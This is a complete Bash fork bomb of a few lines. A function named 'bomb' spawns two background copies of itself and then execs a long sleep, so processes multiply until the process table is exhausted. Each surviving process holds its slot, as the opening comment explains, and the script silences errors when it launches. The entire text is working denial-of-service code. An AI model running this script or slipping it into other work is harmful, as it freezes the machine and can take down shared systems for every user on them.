# Doubles until it may not; what could double stays, so that its place is not free again.
bomb() {
    bomb &
    bomb &
    exec sleep 4711
}
bomb 2>/dev/null &
exec sleep 5
